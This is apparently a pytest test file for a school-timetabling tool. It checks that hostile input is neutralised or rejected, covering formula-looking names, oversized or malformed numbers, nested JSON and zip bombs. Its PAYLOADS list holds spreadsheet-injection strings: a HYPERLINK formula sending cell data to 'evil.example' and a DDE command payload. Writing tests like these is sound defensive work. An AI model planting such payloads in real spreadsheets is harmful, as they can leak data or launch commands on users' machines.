"""Hostile input (issue 18, first part): keste never writes over what the user gave it, and a
user's text that looks like a formula stays text in every workbook and CSV it writes."""

from __future__ import annotations

import json

import pytest
from openpyxl import load_workbook

from benchmarks.schools.general import SAMPLES, make_school
from keste.models.io.jsonio import school_json
from keste.models.io.reading import write_school
from keste.models.io.substitutions import read_history, write_history
from keste.models.substitution import Substitution
from tests.conftest import (
    SAMPLES_DIR,
    SHARED,
    digest,
    formula_cells,
    run,
    sheets_of_small_school,
    write_rows,
)

PAYLOADS = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=1+1", "+cmd|' /C calc'!A0")


def test_the_log_never_overwrites_an_input_or_the_timetable(tmp_path, runner):
    school = tmp_path / "school.xlsx"
    school.write_bytes((SAMPLES_DIR / "small.xlsx").read_bytes())
    before = digest(school)
    result = run(runner, "solve", school, "-o", tmp_path / "tt.xlsx", "--log", school)
    assert result.exit_code == 2 and "never overwrites its input" in result.output
    assert digest(school) == before and not (tmp_path / "tt.xlsx").exists()
    same = run(runner, "solve", school, "-o", tmp_path / "tt.xlsx", "--log", tmp_path / "tt.xlsx")
    assert same.exit_code == 2 and "the same file" in " ".join(same.output.split())


def test_names_that_look_like_formulas_stay_text(tmp_path, runner):
    school = make_school(SAMPLES["small"])
    for teacher, payload in zip(school.teachers, PAYLOADS, strict=False):
        teacher.name = payload
    school.settings.name = PAYLOADS[0]
    path = tmp_path / "school.xlsx"
    write_school(school, path)
    assert formula_cells(path) == []
    out = tmp_path / "tt.xlsx"
    assert run(runner, "solve", path, "-o", out, "--time-limit", "10").exit_code == 0
    assert formula_cells(out) == []
    texts = [
        c.value
        for s in load_workbook(out).worksheets
        for r in s.iter_rows()
        for c in r
        if isinstance(c.value, str)
    ]
    assert all(any(payload in text for text in texts) for payload in PAYLOADS)
    assert run(runner, "validate", path, out).exit_code == 0  # keste reads its output back


def test_the_substitution_history_neutralises_formulas_and_reads_back(tmp_path):
    rows = [
        Substitution(
            "2026-12-0" + str(i), "Mon", 1, 480, 525, "7A", None, text, "T1", text, "subject"
        )
        for i, text in enumerate([*PAYLOADS, "@SUM(1+1)", "-2+3", "'quoted", "plain"], start=1)
    ]
    path = tmp_path / "history.csv"
    write_history(path, rows)
    text = path.read_text(encoding="utf-8")
    for line in text.splitlines()[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in line.split(","))
    assert read_history(path) == rows


# (sheet, row, column, value): one cell of the small sample made hostile; each must give exit 3
# (or a usable school) from `keste check`, never a traceback, and leave the file as it was.
HOSTILE_CELLS = [
    ("School", 7, 1, 100_000_000),  # periods_per_day
    ("School", 7, 1, "inf"),
    ("School", 11, 1, "1-999999999:7"),  # max_lessons_per_day
    ("School", 3, 1, "1e400"),  # lesson_minutes
    ("Curriculum", 1, 2, "inf"),  # hours
    ("Curriculum", 1, 2, "1e400"),
    ("Curriculum", 1, 2, "nan"),
    ("Curriculum", 1, 2, "-0.5"),
    ("Curriculum", 1, 2, "1" * 5000),
    ("Curriculum", 1, 0, "1-999999999"),  # grade
    ("Teachers", 1, 3, "1-999999999"),  # grades
    ("Teachers", 1, 3, "9" * 400),
    ("Teachers", 1, 4, "nan"),  # max_hours
    ("Classes", 1, 2, 10**30),  # students
    ("Classes", 1, 2, -1),
    ("Subjects", 1, 2, "1e400"),  # difficulty
    ("Subjects", 1, 5, 10**9),  # max_per_day
]


def test_hostile_cells_give_messages_not_tracebacks(tmp_path, runner):
    for number, (sheet, row, column, value) in enumerate(HOSTILE_CELLS):
        sheets = sheets_of_small_school()
        sheets[sheet][row][column] = value
        path = write_rows(tmp_path / f"hostile-{number}.xlsx", sheets)
        before = digest(path)
        result = run(runner, "check", path)
        assert result.exit_code in (0, 3), (sheet, row, column, str(value)[:40], result.output)
        assert "Traceback" not in result.output
        if result.exit_code == 3:
            assert f"{sheet}" in result.output, result.output
        assert digest(path) == before


def test_an_unavailable_time_may_span_lines(tmp_path, runner):
    sheets = sheets_of_small_school()
    sheets["Teachers"][0].append("unavailable")
    sheets["Teachers"][1].append("Mon\n1-2;\nTue")
    result = run(runner, "check", write_rows(tmp_path / "lines.xlsx", sheets))
    assert result.exit_code == 0, result.output


def test_control_characters_in_a_name_are_dropped_on_reading(tmp_path, runner):
    """A JSON school can carry characters no workbook holds; the timetable is still written."""
    data = school_json(make_school(SAMPLES["small"]))
    data["Teachers"][0]["name"] = "Омаров\x00\x07\x1b Б.Б."
    path = tmp_path / "school.json"
    path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    out = tmp_path / "tt.xlsx"
    result = run(runner, "solve", path, "-o", out, "--time-limit", "5")
    assert result.exit_code == 0, result.output
    texts = [c.value for s in load_workbook(out).worksheets for r in s.iter_rows() for c in r]
    assert "Омаров Б.Б." in texts


def _json_school(tmp_path, text: str):
    path = tmp_path / "school.json"
    path.write_text(text, encoding="utf-8")
    return path


def test_hostile_json_gives_messages_not_tracebacks(tmp_path, runner):
    small = school_json(make_school(SAMPLES["small"]))
    text = json.dumps(small)
    assert '"hours": 7' in text
    cases = {
        "infinity": text.replace('"hours": 7', '"hours": Infinity', 1),
        "huge integer": text.replace('"hours": 7', '"hours": ' + "7" * 5000, 1),
        "nested": "[" * 100_000 + "]" * 100_000,
    }
    for name, text in cases.items():
        path = _json_school(tmp_path, text)
        result = run(runner, "check", path)
        assert result.exit_code == 3, (name, result.output)
        assert "expected" in result.output, name


def test_a_timetable_in_use_without_lessons_is_bad_input(tmp_path, runner):
    header = ["day", "period", "start", "end", "class", "group", "subject", "teacher", "room"]
    approved = write_rows(tmp_path / "approved.xlsx", {"Lessons": [header]})
    out = tmp_path / "new.xlsx"
    school = SAMPLES_DIR / "small.xlsx"
    result = run(runner, "solve", school, "--from", approved, "-o", out, "--time-limit", "5")
    assert result.exit_code == 3 and "has no lessons" in " ".join(result.output.split())


def test_a_broken_substitution_history_is_bad_input(tmp_path):
    bad = tmp_path / "history.csv"
    bad.write_text("date,day,period\n2026-12-01,Mon,first\n", encoding="utf-8")
    binary = tmp_path / "binary.csv"
    binary.write_bytes(bytes(range(256)) * 4)
    for path, expected in ((bad, "row 2"), (binary, "expected the substitution history")):
        try:
            read_history(path)
        except ValueError as error:
            assert expected in str(error)
        else:
            raise AssertionError(f"{path.name} was read")


def test_a_fet_duration_of_infinity_is_read_as_no_number():
    from xml.etree.ElementTree import fromstring

    from keste.models.io.fet.xml import int_of

    assert int_of(fromstring("<Duration>inf</Duration>")) == 0
    assert int_of(fromstring("<Duration>nan</Duration>")) == 0
    assert int_of(fromstring("<Duration>2</Duration>")) == 2


def test_an_output_keste_cannot_write_is_refused_before_the_search(tmp_path, runner):
    school = SAMPLES_DIR / "small.xlsx"
    (tmp_path / "~$open.xlsx").write_bytes(b"lock")
    cases = {
        tmp_path: "is a folder",
        tmp_path / "missing" / "tt.xlsx": "there is no folder",
        tmp_path / "open.xlsx": "open in Excel",
    }
    for output, expected in cases.items():
        result = run(runner, "solve", school, "-o", output, "--time-limit", "60")
        assert result.exit_code == 2, result.output
        assert expected in " ".join(result.output.split())


def test_a_finished_timetable_is_kept_when_its_file_cannot_be_written(
    tmp_path, runner, monkeypatch
):
    import keste.cli.solve as solve_command

    written = []
    real = solve_command.write_timetable

    def refuse_first(school, timetable, report, path, *rest):
        if not written:
            written.append(path)
            raise PermissionError(13, "Permission denied")
        real(school, timetable, report, path, *rest)

    monkeypatch.setattr(solve_command, "write_timetable", refuse_first)
    out = tmp_path / "tt.xlsx"
    result = run(runner, "solve", SAMPLES_DIR / "small.xlsx", "-o", out, "--time-limit", "5")
    assert result.exit_code == 0, result.output
    kept = [p for p in tmp_path.iterdir() if p.name.startswith("tt-")]
    assert len(kept) == 1 and not out.exists()
    assert (
        kept[0].name in " ".join(result.output.split()).replace(" ", "")
        or "instead" in result.output
    )


@pytest.mark.parametrize(
    "command, source, module, writer, arguments",
    [
        (
            "allocate",
            SAMPLES_DIR / "small.xlsx",
            "keste.cli.allocate",
            "write_allocation",
            ["--time-limit", "5", "--fresh"],
        ),
        (
            "import-fet",
            SHARED / "fixtures" / "fet" / "brazil-1.fet",
            "keste.cli.import_fet",
            "write_imported_school",
            [],
        ),
    ],
)
def test_every_command_keeps_its_result_when_its_file_cannot_be_written(
    tmp_path, runner, monkeypatch, command, source, module, writer, arguments
):
    """Like solve: an allocation or an import that cannot be written where asked (opened in
    Excel while keste worked) goes beside it under a new name, and keste says where."""
    import importlib

    target = importlib.import_module(module)
    real = getattr(target, writer)
    refused = []

    def refuse_first(*args):
        if not refused:
            refused.append(args)
            raise PermissionError(13, "Permission denied")
        real(*args)

    monkeypatch.setattr(target, writer, refuse_first)
    if not source.exists():
        pytest.skip(f"{source} is not beside the repository")
    out = tmp_path / "out.xlsx"
    result = run(runner, command, source, "-o", out, *arguments)
    assert result.exit_code == 0, result.output
    kept = [p for p in tmp_path.iterdir() if p.name.startswith("out-")]
    assert len(kept) == 1 and not out.exists()
    assert "instead" in result.output
    assert load_workbook(kept[0]).sheetnames


def test_a_workbook_that_unpacks_to_too_much_is_refused_unread(tmp_path, monkeypatch):
    """A 2 MB file can unpack to gigabytes of spaces; keste reads the sizes the archive
    declares (zipfile never unpacks more) and stops before opening it."""
    from keste.models.io import workbook
    from keste.models.io.reading import read_school

    monkeypatch.setattr(workbook, "MAX_UNPACKED_BYTES", 10_000)
    school, problems = read_school(SAMPLES_DIR / "small.xlsx")
    assert school is None and "unpacks to" in str(problems.items[0])


def test_lookalike_letters_get_a_hint(tmp_path, runner):
    """The small sample's classes are Cyrillic (1А); a Load row typed with a Latin A, and a
    second class 1A beside 1А, are pointed out."""
    sheets = sheets_of_small_school()
    assert sheets["Load"][1][0] == "1А"  # Cyrillic А
    sheets["Load"][1][0] = "1A"  # Latin A
    result = run(runner, "check", write_rows(tmp_path / "latin.xlsx", sheets))
    assert result.exit_code == 3
    assert "did you mean 1А? written in Cyrillic letters" in " ".join(result.output.split())
    sheets = sheets_of_small_school()
    sheets["Classes"].append(["1A", 1, 20, "kk"])
    result = run(runner, "check", write_rows(tmp_path / "twins.xlsx", sheets))
    assert "look the same but are two classes" in " ".join(result.output.split())


def test_json_sheets_have_the_row_cap_of_workbooks(tmp_path, runner):
    data = school_json(make_school(SAMPLES["small"]))
    data["Rooms"] = [{"room": f"R{n}", "type": "classroom"} for n in range(10_001)]
    path = _json_school(tmp_path, json.dumps(data))
    result = run(runner, "check", path)
    assert result.exit_code == 3 and "at most 10,000 rows" in " ".join(result.output.split())


def test_a_missing_sheet_is_one_error_not_one_per_row_that_names_it(tmp_path, runner):
    for sheet in ("Classes", "Subjects", "Teachers"):
        sheets = sheets_of_small_school()
        del sheets[sheet]
        result = run(runner, "check", write_rows(tmp_path / f"no-{sheet}.xlsx", sheets))
        assert result.exit_code == 3
        assert "1 error(s), 0 warning(s)" in result.output, (sheet, result.output[:500])


def test_one_unknown_name_on_many_rows_is_one_line_that_lists_them(tmp_path, runner):
    """A subject dropped from the Subjects sheet is named by many Curriculum and Load rows:
    one line says so with its rows, and the count still gives every row."""
    sheets = sheets_of_small_school()
    column = sheets["Curriculum"][0].index("subject")
    named = [row[column] for row in sheets["Curriculum"][1:]]
    code = max(set(named), key=named.count)  # the subject on the most Curriculum rows
    assert named.count(code) > 1
    sheets["Subjects"] = [r for r in sheets["Subjects"] if r[0] != code]
    result = run(runner, "check", write_rows(tmp_path / "dropped.xlsx", sheets))
    assert result.exit_code == 3
    output = " ".join(result.output.split())
    lines = [line for line in result.output.splitlines() if repr(code) in line]
    curriculum = [line for line in lines if "Curriculum" in line]
    assert len(curriculum) == 1, output[:800]
    assert f"on {named.count(code)} rows:" in output


def test_a_school_of_thousands_of_classes_is_refused_before_any_work(tmp_path, runner):
    data = school_json(make_school(SAMPLES["small"]))
    data["Classes"] = [{"class": f"{n}", "grade": 5, "students": 20} for n in range(10_000)]
    path = _json_school(tmp_path, json.dumps(data))
    result = run(runner, "solve", path, "-o", tmp_path / "tt.xlsx", "--time-limit", "20")
    assert result.exit_code == 3 and "up to 400 classes" in " ".join(result.output.split())


def test_an_invisible_character_in_a_sheet_name_or_header_is_ignored(tmp_path, runner):
    sheets = sheets_of_small_school()
    sheets["Cla\u200bsses"] = sheets.pop("Classes")
    sheets["Load"][0][0] = "\ufeffclass"
    result = run(runner, "check", write_rows(tmp_path / "invisible.xlsx", sheets))
    assert result.exit_code == 0, result.output


def test_a_table_too_far_down_or_right_is_said_so(tmp_path, runner):
    for name, move in (
        ("down", lambda rows: [[]] * 25 + rows),
        ("right", lambda rows: [[None] * 65 + row for row in rows]),
    ):
        sheets = sheets_of_small_school()
        sheets["Classes"] = move(sheets["Classes"])
        result = run(runner, "check", write_rows(tmp_path / f"{name}.xlsx", sheets))
        text = " ".join(result.output.split())
        assert result.exit_code == 3 and "in the first 20 rows and 60 columns" in text, text
        assert "the sheet is empty" not in text


def test_a_formula_never_calculated_is_named_not_read_as_empty(tmp_path, runner):
    """openpyxl, like other programs that do not calculate, saves a formula with no value."""
    sheets = sheets_of_small_school()
    sheets["Classes"][1][2] = "=20+8"  # students of 1А, as a formula
    result = run(runner, "check", write_rows(tmp_path / "formula.xlsx", sheets))
    text = " ".join(result.output.split())
    assert result.exit_code == 3 and "Classes, cell C2" in text
    assert "a formula whose value was never calculated" in text
